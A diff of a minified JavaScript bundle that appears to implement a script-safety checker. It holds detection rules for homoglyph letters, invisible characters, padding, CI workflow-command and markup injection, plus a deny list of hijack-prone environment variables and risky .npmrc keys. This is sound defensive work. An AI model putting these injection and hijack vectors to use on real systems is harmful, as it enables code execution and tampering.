-refusal:()=>{},unknown:()=>vn({unknown:!0}),module:vn({unknown:!0})},Or={tools:h_,allowed:new Map,known:new Map,offered:()=>{}};
-var Jd=ot(756);function p_(n){return n.split(/\s+/).flatMap(([e="",...t])=>t.map(s=>[s,e]))}const m_=new Map(p_(`a\u0430\u0251\u03B1 b\u042C\
+subcommands.get(_)??r({alone:"only-prints"},e.flags);return Wd(y,_,k)},c),C=r(B,e.flags);for(const y of h)Wd(g,y,C)}return{
+program:n,use:c,data:e}}function Wd(n,e,t){return n.subcommands.set(e,t),n.stops=!0,t}function Kd(n,e=[]){const t=i=>i.startsWith(
+"-")?i:`${i.length===1?"-":"--"}${i}`,s=Li([n,{text:e.join(" ")}],t),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:t(
+o.name)}]));return{...s,flags:r,strict:!0}}const qd={"only-prints":"help h version v V"};function Li(n,e=qs){const t=new Map,
+s=[];for(const r of n)for(const[i,o]of Pi(r??{},e))i.endsWith("~")?s.push([i.slice(0,-1),o]):t.has(i)||t.set(i,o);return{
+flags:t,prefixes:s}}function ba({flags:n,prefixes:e},t){return n.get(t)??e.find(([s])=>t.startsWith(s))?.[1]}const D_={known:()=>{},
+refusal:()=>{},unknown:()=>kn({unknown:!0}),module:kn({unknown:!0})},Or={tools:D_,allowed:new Map,known:new Map,offered:()=>{}};
+var Yd=ot(756);function x_(n){return n.split(/\s+/).flatMap(([e="",...t])=>t.map(s=>[s,e]))}const O_=new Map(x_(`a\u0430\u0251\u03B1 b\u042C\
 \u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\u0269 j\u0458\u03F3 k\u03BA\u043A l\u04CF\u01C0 m\u043C n\u043F\u0578\u03B7 o\u043E\u03BF\u0585 p\u0440\u03C1 q\u051B\u0566 r\u0433 s\u0455 t\u0442\u03C4
    u\u057D\u03C5 v\u03BD\u0475 w\u051D\u03C9 x\u0445\u03C7 y\u0443\u03B3 z\u1D22 A\u0410\u0391 B\u0412\u0392 C\u0421\u03F9 E\u0415\u0395 H\u041D\u0397 I\u0406\u0399\u04C0 J\u0408 K\u041A\u039A M\u041C\u039C N\u039D O\u041E\u039F P\u0420\u03A1 S\u0405 T\u0422\u03A4 X\u0425\u03A7 Y\u04AE\u03A5
    Z\u0396\u13C3 A\u13AA B\u13F4 C\u13DF D\u13A0 E\u13AC G\u050C\u13C0 H\u13BB J\u13AB K\u13E6 L\u13DE M\u13B7 P\u13E2 R\u13A1 S\u13DA T\u13A2 V\u13D9\u0474 W\u13B3\u051C Y\u13A9 Q\u051A`));
-function Zd(n){return[...n].map(e=>m_.get(e)??e).join("")}const g_=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;
-function Wd(n){if(n>=32&&n<127||n===9)return"visible";if(n===0)return"nul-character";if(n===10||n===13)return"line-break";
-if(n<160||n>=55296&&n<=57343)return"control-character";const e=String.fromCodePoint(n);return g_.test(e)?"invisible-char\
-acter":"visible"}function ba(n){return`U+${n.toString(16).toUpperCase().padStart(4,"0")}`}function dn(n,e=120){const t=n.
-length>e?`${n.slice(0,e)}\u2026`:n;let s="";for(const r of t){const i=r.codePointAt(0)??0,o=i!==9&&Wd(i)==="visible";s+=
-o?r:`<${ba(i)}>`}return s}function ys(n,e,t,s){let r=e;for(const i of n)C_(i,r,t,s),r+=i.length}function C_(n,e,t,s){const r=n.
-codePointAt(0)??0,i={start:e,end:e+n.length},o=ba(r),c=Wd(r);if(c==="line-break"?s.add(c,i,{character:o,quoted:t}):c!=="\
+function Vd(n){return[...n].map(e=>O_.get(e)??e).join("")}const A_=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;
+function Qd(n){if(n>=32&&n<127||n===9)return"visible";if(n===0)return"nul-character";if(n===10||n===13)return"line-break";
+if(n<160||n>=55296&&n<=57343)return"control-character";const e=String.fromCodePoint(n);return A_.test(e)?"invisible-char\
+acter":"visible"}function _a(n){return`U+${n.toString(16).toUpperCase().padStart(4,"0")}`}function dn(n,e=120){const t=n.
+length>e?`${n.slice(0,e)}\u2026`:n;let s="";for(const r of t){const i=r.codePointAt(0)??0,o=i!==9&&Qd(i)==="visible";s+=
+o?r:`<${_a(i)}>`}return s}function ws(n,e,t,s){let r=e;for(const i of n)S_(i,r,t,s),r+=i.length}function S_(n,e,t,s){const r=n.
+codePointAt(0)??0,i={start:e,end:e+n.length},o=_a(r),c=Qd(r);if(c==="line-break"?s.add(c,i,{character:o,quoted:t}):c!=="\
 visible"&&s.add(c,i,{character:o}),c!=="visible"||r<=126)return;const l=n.normalize("NFKC");l!==n.normalize("NFC")||/[\0-\x7f]/.
 test(l)?s.add("look-alike-letters",i,{word:n,looks_like:l,characters:[o]}):t||s.add("non-ascii-unquoted",i,{character:o,
-shown:n})}const y_=/\p{L}+/gu;function w_(n,e,t,s){if(/^[\x00-\x7f]*$/.test(n)||!t&&/\s/.test(n))return;const r=t?b_(n):
-__(n);if(r===void 0)return;const i=[...new Set(n)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},
-{word:dn(n),looks_like:dn(r),characters:i.slice(0,10).map(o=>ba(o.codePointAt(0)??0))})}function b_(n){const e=n.normalize(
-"NFKD").replace(/\p{M}/gu,""),t=Zd(e);return/^[\x20-\x7e]+$/.test(t)?t:void 0}function __(n){let e=!1;const t=n.replace(
-y_,s=>{const r=Zd(s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?t:void 0}const E_=100,v_=1e3;function k_(n,e){
+shown:n})}const T_=/\p{L}+/gu;function I_(n,e,t,s){if(/^[\x00-\x7f]*$/.test(n)||!t&&/\s/.test(n))return;const r=t?$_(n):
+R_(n);if(r===void 0)return;const i=[...new Set(n)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},
+{word:dn(n),looks_like:dn(r),characters:i.slice(0,10).map(o=>_a(o.codePointAt(0)??0))})}function $_(n){const e=n.normalize(
+"NFKD").replace(/\p{M}/gu,""),t=Vd(e);return/^[\x20-\x7e]+$/.test(t)?t:void 0}function R_(n){let e=!1;const t=n.replace(
+T_,s=>{const r=Vd(s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?t:void 0}const N_=100,F_=1e3;function P_(n,e){
 let t=0,s=0;for(let r=0;r<=n.length;r+=1){const i=n.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(t+=o-1),
-o>=E_||t>=v_){const c=Math.max(o,t);e.add("blank-padding",{start:s,end:r},{blanks:c});return}s=r+1}}const D_=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
-x_=/<!--|```/;function _a(n,e,t){const s=({index:o,0:c})=>t??{start:o,end:o+c.length},r=D_.exec(n);r&&e.add("workflow-co\
-mmand",s(r),{written:dn(r[0])});const i=x_.exec(n);i&&e.add("markup-injection",s(i),{written:i[0]})}const Kd={"unquoted-\
+o>=N_||t>=F_){const c=Math.max(o,t);e.add("blank-padding",{start:s,end:r},{blanks:c});return}s=r+1}}const L_=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
+j_=/<!--|```/;function Ea(n,e,t){const s=({index:o,0:c})=>t??{start:o,end:o+c.length},r=L_.exec(n);r&&e.add("workflow-co\
+mmand",s(r),{written:dn(r[0])});const i=j_.exec(n);i&&e.add("markup-injection",s(i),{written:i[0]})}const Xd={"unquoted-\
 glob":"warning","environment-assignment":"warning","tool-writes":"warning","skips-tests":"warning",weakens:"warning","to\
 ol-runs-file":"warning","only-prints":"warning","checks-syntax-only":"warning","absolute-path":"warning","tool-unknown":"\
 warning","target-not-judged":"notice","dependency-not-compared":"warning","not-installed":"notice","build-files-unread":"\
 notice","target-changed":"notice","script-unreadable":"warning","target-writes":"warning","npm-script-missing":"warning",
-"npm-script-text":"warning","workspaces-changed":"warning"};function et(n,e,t,s=O_(n)){return{rule:n,args:t,span:e,severity:s}}
-function O_(n){return n in Kd?Kd[n]:"error"}function rs(n,e){return n.rule===e}function Li(n){const[e]=n.parts;return n.
-parts.length===1&&e?e.text:n.parts.map(t=>t.text).join("")}function A_(n){const[e]=n.parts;return n.parts.length===1&&e&&
-!e.quoted?e.text:void 0}class qd{#e=[];add(e,t,s){this.#e.push(et(e,t,s))}inOrder(){const e=({severity:t})=>t==="error"?
-0:1;return this.#e.sort((t,s)=>t.span.start-s.span.start||e(t)-e(s))}}function Yd(n){const e=new Set;return n.filter(({rule:t,
-severity:s})=>{if(s!=="error")return!0;const r=!e.has(t);return e.add(t),r})}const Ar=/^[\w.-]{0,64}$/,Vd=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
-S_=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,T_=/^\d{1,9}$/,ws=/^(?:|[01]|true|false|yes|no|on|off)$/i,Qd=new Map(
+"npm-script-text":"warning","workspaces-changed":"warning"};function et(n,e,t,s=M_(n)){return{rule:n,args:t,span:e,severity:s}}
+function M_(n){return n in Xd?Xd[n]:"error"}function rs(n,e){return n.rule===e}function ji(n){const[e]=n.parts;return n.
+parts.length===1&&e?e.text:n.parts.map(t=>t.text).join("")}function G_(n){const[e]=n.parts;return n.parts.length===1&&e&&
+!e.quoted?e.text:void 0}class eB{#e=[];add(e,t,s){this.#e.push(et(e,t,s))}inOrder(){const e=({severity:t})=>t==="error"?
+0:1;return this.#e.sort((t,s)=>t.span.start-s.span.start||e(t)-e(s))}}function tB(n){const e=new Set;return n.filter(({rule:t,
+severity:s})=>{if(s!=="error")return!0;const r=!e.has(t);return e.add(t),r})}const Ar=/^[\w.-]{0,64}$/,nB=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
+H_=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,z_=/^\d{1,9}$/,bs=/^(?:|[01]|true|false|yes|no|on|off)$/i,sB=new Map(
 [["NODE_ENV",Ar],["CI",Ar],["FORCE_COLOR",Ar],["NO_COLOR",Ar],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
-["LANG",Vd],["LC_ALL",Vd],["NODE_NO_WARNINGS",ws],["PYTHONDONTWRITEBYTECODE",ws],["PYTHONUNBUFFERED",ws],["PYTHONHASHSEE\
+["LANG",nB],["LC_ALL",nB],["NODE_NO_WARNINGS",bs],["PYTHONDONTWRITEBYTECODE",bs],["PYTHONUNBUFFERED",bs],["PYTHONHASHSEE\
 D",/^(?:random|\d{1,9})$/],["RUST_BACKTRACE",/^(?:[01]|full)$/],["RUSTFLAGS",/^-D ?warnings$/],["RUSTDOCFLAGS",/^-D ?warnings$/],
-["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",S_],["TS_NODE_TRANSPILE_ONLY",ws],
-["TS_NODE_FILES",ws],["TS_NODE_SKIP_PROJECT",ws]]),I_=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
-[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Ar]],Xd="NODE_OPTIONS",$_=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
-function eB(n){return n.split(" ").every(e=>$_.test(e.replaceAll("_","-")))}function Ea(n,e){if(n===Xd)return eB(e);const t=Qd.
-get(n);return t!==void 0?t.test(e):tB(n)?I_.some(([r,i])=>r.test(n)&&i.test(e))||ws.test(e)||T_.test(e):!1}const R_=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
-function tB(n){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(n)?!nB(n):R_.test(n)}function N_(n){return n===Xd||Qd.has(n)||
-tB(n)}const F_=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function P_(n,e){const t=[],s=[];let r=0;for(const i of n){const[o]=i.parts,
-c=o&&!o.quoted?F_.exec(o.text):null;if(!c)break;r+=1;const[l,B="",d]=c,h=Li(i).slice(l.length),g={start:i.start,end:i.end};
-if(!d&&Ea(B,h))t.push({name:B,value:h,span:g}),e.add("environment-assignment",g,{name:B,value:dn(h)});else{const C=!d&&N_(
+["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",H_],["TS_NODE_TRANSPILE_ONLY",bs],
+["TS_NODE_FILES",bs],["TS_NODE_SKIP_PROJECT",bs]]),U_=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
+[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Ar]],rB="NODE_OPTIONS",J_=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
+function iB(n){return n.split(" ").every(e=>J_.test(e.replaceAll("_","-")))}function va(n,e){if(n===rB)return iB(e);const t=sB.
+get(n);return t!==void 0?t.test(e):oB(n)?U_.some(([r,i])=>r.test(n)&&i.test(e))||bs.test(e)||z_.test(e):!1}const Z_=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
+function oB(n){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(n)?!aB(n):Z_.test(n)}function W_(n){return n===rB||sB.has(n)||
+oB(n)}const K_=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function q_(n,e){const t=[],s=[];let r=0;for(const i of n){const[o]=i.parts,
+c=o&&!o.quoted?K_.exec(o.text):null;if(!c)break;r+=1;const[l,B="",d]=c,h=ji(i).slice(l.length),g={start:i.start,end:i.end};
+if(!d&&va(B,h))t.push({name:B,value:h,span:g}),e.add("environment-assignment",g,{name:B,value:dn(h)});else{const C=!d&&W_(
 B);e.add("assignment-refused",g,{name:B,value:dn(h),known:C}),d||s.push({name:B,value:h,span:g})}}return{assignments:t,refused:s,
-count:r}}const L_=`
+count:r}}const Y_=`
   BASH_~ BASHOPTS ENV HOME IFS PATH PROMPT_COMMAND PS4 SHELL SHELLOPTS XDG_CONFIG_HOME ZDOTDIR
   DYLD_~ GLIBC_~ LD_~ LIBRARY_~ MALLOC_~
   C8_~ COVERAGE_~ ELECTRON_~ INIT_CWD MOCHA_OPTIONS AVA_~ NODE NODE_~ NVM_~ NYC_~
@@ -3696,46 +3720,46 @@ count:r}}const L_=`
   CMAKE_~ COMPLUS_~ CORECLR_~ DOTNET_~ GCC_~ GNUMAKEFLAGS MAKE~ MSBUILD_~
   GIT_~
   BROWSER_ARGS DOCKER_~ EDITOR_~ OPENSSL_~ SSH_~ SSL_~ SUDO_~ XDG_~
-`.match(/\S+/g),j_=new RegExp(`^(?:${L_.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function nB(n){
-return j_.test(n)}const ht={targets:[],problems:[]};function pt(n){return{targets:n.flatMap(e=>e.targets),problems:n.flatMap(
+`.match(/\S+/g),V_=new RegExp(`^(?:${Y_.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function aB(n){
+return V_.test(n)}const ht={targets:[],problems:[]};function pt(n){return{targets:n.flatMap(e=>e.targets),problems:n.flatMap(
 e=>e.problems)}}function ze(n,e,t,s){return{targets:[],problems:[et(n,e,t,s)]}}function Ft({directory:n},e){return n===""?
-e:`${n}/${e}`}function ji({via:n},e){return n===void 0?e:{...e,via:n}}const sB=64,rB=2e3;class M_{#e=new Set;#t=new Set;resolve;#s;constructor(e,t){
+e:`${n}/${e}`}function Mi({via:n},e){return n===void 0?e:{...e,via:n}}const cB=64,uB=2e3;class Q_{#e=new Set;#t=new Set;resolve;#s;constructor(e,t){
 this.resolve=e,this.#s=t}async follow(e,t,s,r){if(this.#e.has(e))return r({why:"cycle"});const i=await this.#s?.tickScript();
-if(i!==void 0)return r({why:"time",limit:i});const o=`${e}\0${t}`;if(this.#t.has(o))return ht;if(this.#e.size>=sB)return r(
-{why:"depth",limit:sB});if(this.#t.size>=rB)return r({why:"count",limit:rB});this.#e.add(e);const c=await s();return this.#e.
-delete(e),this.#t.add(o),c}}function va(n,e,t){switch(n.kind){case"inside":return n.entry;case"outside":return ze("targe\
+if(i!==void 0)return r({why:"time",limit:i});const o=`${e}\0${t}`;if(this.#t.has(o))return ht;if(this.#e.size>=cB)return r(
+{why:"depth",limit:cB});if(this.#t.size>=uB)return r({why:"count",limit:uB});this.#e.add(e);const c=await s();return this.#e.
+delete(e),this.#t.add(o),c}}function ka(n,e,t){switch(n.kind){case"inside":return n.entry;case"outside":return ze("targe\
 t-outside",t,{path:e,reason:"symlink"});case"missing":return ze("target-missing",t,{path:e});case"loop":return ze("targe\
-t-not-a-file",t,{path:e,reason:"loop"})}}function ka(n,e,t,s){const r=J_(n,e),i=e.slice(0,Math.max(0,e.length-(Bt(t)?.length??
-0))),o=r&&He.posix.relative(i,r);return ze("target-missing",s,{path:t,...o&&{near:o}})}function Da(n,e,t){const s=va(n,e,
-t);return"problems"in s||Wt(s.kind)?s:ze("target-not-a-file",t,{path:e,reason:s.kind})}function iB(n,e,t){const s=e.startsWith(
+t-not-a-file",t,{path:e,reason:"loop"})}}function Da(n,e,t,s){const r=sE(n,e),i=e.slice(0,Math.max(0,e.length-(Bt(t)?.length??
+0))),o=r&&He.posix.relative(i,r);return ze("target-missing",s,{path:t,...o&&{near:o}})}function xa(n,e,t){const s=ka(n,e,
+t);return"problems"in s||Kt(s.kind)?s:ze("target-not-a-file",t,{path:e,reason:s.kind})}function lB(n,e,t){const s=e.startsWith(
 "/")?void 0:Bt(Ft(n,e));if(s===void 0)return ze("target-outside",t,{path:e,reason:"above"});const r=Ot(n.tree,s);return r.
-kind==="missing"?ka(n.tree,s,e,t):va(r,e,t)}function oB(n,{text:e,span:t}){const s=e.startsWith("/")?void 0:Bt(Ft(n,e)),
-r=s===void 0?void 0:Ot(n.tree,s);return s===void 0||r?.kind!=="inside"||!Wt(r.entry.kind)?ht:xa(n,{name:e,path:r.path,wanted:s},
-t)}function xa(n,{name:e,path:t,wanted:s},r){const i=n.changed.has(t)||n.changed.has(s);return{targets:[ji(n,{kind:"file",
-name:e,path:t})],problems:i?[et("target-changed",r,{path:t})]:[]}}async function Mi(n,e,t){const s=Ot(n,e);if(!(s.kind===
+kind==="missing"?Da(n.tree,s,e,t):ka(r,e,t)}function dB(n,{text:e,span:t}){const s=e.startsWith("/")?void 0:Bt(Ft(n,e)),
+r=s===void 0?void 0:Ot(n.tree,s);return s===void 0||r?.kind!=="inside"||!Kt(r.entry.kind)?ht:Oa(n,{name:e,path:r.path,wanted:s},
+t)}function Oa(n,{name:e,path:t,wanted:s},r){const i=n.changed.has(t)||n.changed.has(s);return{targets:[Mi(n,{kind:"file",
+name:e,path:t})],problems:i?[et("target-changed",r,{path:t})]:[]}}async function Gi(n,e,t){const s=Ot(n,e);if(!(s.kind===
 "missing"&&n.stat(e)===void 0))return s.kind!=="inside"?{unread:"it is a symbolic link that leads to no file of the repo\
-sitory"}:Wt(s.entry.kind)?(s.entry.size??0)>t?{unread:"it is too large"}:{text:(await n.read(s.path,t)).toString("utf8"),
-path:s.path}:{unread:"it is not a regular file"}}async function G_(n,e,t){if(n===e)return!1;const[s,r]=[n,e].map(B=>Ot(B,
+sitory"}:Kt(s.entry.kind)?(s.entry.size??0)>t?{unread:"it is too large"}:{text:(await n.read(s.path,t)).toString("utf8"),
+path:s.path}:{unread:"it is not a regular file"}}async function X_(n,e,t){if(n===e)return!1;const[s,r]=[n,e].map(B=>Ot(B,
 t));if(s?.kind!=="inside"||r?.kind!=="inside")return!0;const[i,o]=[s.entry,r.entry];if(i.oid!==void 0&&i.oid===o.oid)return!1;
-if(i.size!==o.size||!Wt(i.kind)||!Wt(o.kind))return!0;const[c,l]=await Promise.all([n.read(i.path,i.size),e.read(o.path,
-o.size)]);return!c.equals(l)}async function H_(n,e){const[t=""]=(await n.read(e)).subarray(0,256).toString("latin1").split(
+if(i.size!==o.size||!Kt(i.kind)||!Kt(o.kind))return!0;const[c,l]=await Promise.all([n.read(i.path,i.size),e.read(o.path,
+o.size)]);return!c.equals(l)}async function eE(n,e){const[t=""]=(await n.read(e)).subarray(0,256).toString("latin1").split(
 `
-`,1);return t}const z_=Rn(n=>Si(n.files(),({path:e})=>He.posix.dirname(e))),U_=20;function J_(n,e){const t=e.split("/").
-slice(-U_),s=t.at(-1)??"",r=He.posix.dirname(e),i=t.slice(1,-1).map((d,h)=>t.slice(h+1).join("/")).find(d=>aB(n.stat(d)));
-if(i!==void 0)return i;const o=Ti(n,s).filter(aB),c=o.filter(({path:d})=>d.endsWith(`/${e}`));if(c.length===1)return c[0]?.
-path;const l=(z_(n).get(r)??[]).filter(({path:d})=>He.posix.extname(d)===He.posix.extname(s)).map(({path:d})=>He.posix.basename(
-d)),B=Ri(s,l);return B!==void 0?He.posix.join(r,B):o.length===1?o[0]?.path:void 0}function aB(n){return!!n?.tracked&&Wt(
-n.kind)&&!sn(n.path,"node_modules")}const Z_=2e5,W_=2e3;async function TN(n,e){const{kind:t,size:s=0}=n.stat(e)??{};if(!isRegular(
-t))return;if(s>Z_)return`has ${s} bytes`;const r=(await n.read(e)).toString("utf8").split(`
-`),i=r.findIndex(o=>o.length>W_);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const K_=64*1024;async function Ys(n){
-const e=await Mi(n.tree,Ft(n,".npmrc"),K_);if(e===void 0)return{settings:{}};if("unread"in e)return e;const t=ew(e.text);
-return t!==void 0?{unread:t}:{settings:(0,Jd.parse)(e.text),file:e.path}}async function Oa(n,e){const t=Ft(n,".npmrc"),s=await Ys(
+`,1);return t}const tE=Rn(n=>Si(n.files(),({path:e})=>He.posix.dirname(e))),nE=20;function sE(n,e){const t=e.split("/").
+slice(-nE),s=t.at(-1)??"",r=He.posix.dirname(e),i=t.slice(1,-1).map((d,h)=>t.slice(h+1).join("/")).find(d=>BB(n.stat(d)));
+if(i!==void 0)return i;const o=Ti(n,s).filter(BB),c=o.filter(({path:d})=>d.endsWith(`/${e}`));if(c.length===1)return c[0]?.
+path;const l=(tE(n).get(r)??[]).filter(({path:d})=>He.posix.extname(d)===He.posix.extname(s)).map(({path:d})=>He.posix.basename(
+d)),B=Ni(s,l);return B!==void 0?He.posix.join(r,B):o.length===1?o[0]?.path:void 0}function BB(n){return!!n?.tracked&&Kt(
+n.kind)&&!sn(n.path,"node_modules")}const rE=2e5,iE=2e3;async function zN(n,e){const{kind:t,size:s=0}=n.stat(e)??{};if(!isRegular(
+t))return;if(s>rE)return`has ${s} bytes`;const r=(await n.read(e)).toString("utf8").split(`
+`),i=r.findIndex(o=>o.length>iE);return i<0?void 0:`has ${r[i]?.length} characters on line ${i+1}`}const oE=64*1024;async function Ys(n){
+const e=await Gi(n.tree,Ft(n,".npmrc"),oE);if(e===void 0)return{settings:{}};if("unread"in e)return e;const t=uw(e.text);
+return t!==void 0?{unread:t}:{settings:(0,Yd.parse)(e.text),file:e.path}}async function Aa(n,e){const t=Ft(n,".npmrc"),s=await Ys(
 n);if("unread"in s)return ze("npmrc-setting",e,{path:t,keys:[],why:s.unread});const{settings:r,file:i=t}=s,o=!n.base||n.
 changed.has(t)||n.changed.has(i),c=n.base&&await Ys({...n,tree:n.base}),l=c&&"settings"in c?c.settings:{},B={changed:[],
-decides:[],stands:[]};for(const[d,h]of Object.entries(r)){const g=Aa(d,h),C=o&&JSON.stringify(l[d])!==JSON.stringify(h),
-y=d==="node-options"&&!eB(String(h));g==="harmless"||g==="honoured"&&!C&&!y||B[C?"changed":g==="other"?"stands":"decides"].
+decides:[],stands:[]};for(const[d,h]of Object.entries(r)){const g=Sa(d,h),C=o&&JSON.stringify(l[d])!==JSON.stringify(h),
+y=d==="node-options"&&!iB(String(h));g==="harmless"||g==="honoured"&&!C&&!y||B[C?"changed":g==="other"?"stands":"decides"].
 push(d)}return pt(Object.entries(B).map(([d,h])=>h.length===0?ht:ze("npmrc-setting",e,{path:t,keys:h,why:d},d==="stands"?
-"warning":void 0)))}const q_=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
+"warning":void 0)))}const aE=new Set(`access allow-same-version audit audit-level auth-type bin-links color commit-hooks\
  cpu depth
   description diff-ignore-all-space diff-name-only diff-no-prefix diff-text diff-unified dry-run
   engine-strict expect-result-count expect-results fetch-retries fetch-retry-factor
@@ -3753,295 +3777,295 @@ push(d)}return pt(Object.entries(B).map(([d,h])=>h.length===0?ht:ze("npmrc-setti
   ignore-workspace-root-check link-workspace-packages manage-package-manager-versions node-linker
   prefer-workspace-packages public-hoist-pattern recursive-install resolution-mode
   save-workspace-protocol shamefully-hoist shared-workspace-lockfile side-effects-cache
-  strict-peer-dependencies use-node-version`.split(/\s+/)),Y_=new Set(`browser call editor extension-file git global glo\
+  strict-peer-dependencies use-node-version`.split(/\s+/)),cE=new Set(`browser call editor extension-file git global glo\
 balconfig if-present include-workspace-root
   init-module init.module location node-gyp node-options package prefix scripts-prepend-node-path
-  script-shell shell usage userconfig version versions viewer workspace workspaces yes`.split(/\s+/)),V_=new Set(["ignor\
-e-scripts","node-options"]);function Aa(n,e){const t=typeof e!="object"&&!String(e).includes("${");if(n==="ignore-script\
-s"&&t)return typeof e=="boolean"?"honoured":"decides";if(V_.has(n)&&t)return"honoured";const s=n.toLowerCase().replaceAll(
-"_","-");return Y_.has(s)||n.includes("${")?"decides":!q_.has(n)||typeof e=="object"&&!Array.isArray(e)||String(e).includes(
-"${")?"other":"harmless"}async function Q_(n,e){return Promise.all(Ti(n,".npmrc").map(({path:t})=>X_(n,t,e)))}async function X_(n,e,t){
-const s=He.posix.dirname(e),r=await Ys({tree:n,directory:s==="."?"":s});if("unread"in r)return eE(n,e,r.unread);const{settings:i,
-file:o=e}=r,c=t.has(e)||t.has(o),l=([d,h])=>{const g=Aa(d,h);return g==="harmless"||g==="honoured"&&!c},B=Object.entries(
-i);return{path:o,text:(0,Jd.stringify)(Object.fromEntries(B.filter(l))),dropped:B.filter(d=>!l(d)).map(([d])=>d)}}function eE(n,e,t){
-const s=Ot(n,e);return s.kind==="inside"&&Wt(s.entry.kind)?{path:s.path,text:"",dropped:[t]}:{path:e,dropped:[t]}}const tE=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
-async function nE(n,e){return(await Q_(n,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!tE.test(o));return i.length>
-0?[`${s}: ${i.join(", ")}`]:[]})}function sE(n){return typeof n=="object"&&n!==null&&!Array.isArray(n)}function rn(n){return sE(
-n)?n:{}}function Kn(n,e){const t=Object.hasOwn(n,e)?n[e]:void 0;return typeof t=="string"?t:""}const cB=200;function rE(n){
-if(new RegExp(`^[ \\t?-]{${cB}}`,"m").test(n))return!0;let e=0;for(const t of n.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+
-(/[[{]/.test(t)?1:-1)),e>cB)return!0;return!1}const Sr=Symbol("*"),iE=/^.$/su,oE=/\[\w+\]|./gsu;function aE(n){if(!n.parts.
-some(l=>!l.quoted&&/[*?[]/.test(l.text)))return;const e=n.parts.flatMap(({text:l,quoted:B})=>B?Array.from(l):(l.match(oE)??
-[]).map(cE)),t=n.parts.map(({text:l,quoted:B})=>B?"\0":l).join(""),s=/\[.*\]/s.test(t.replace(/\[\w+\]/g,"]")),r=e.findIndex(
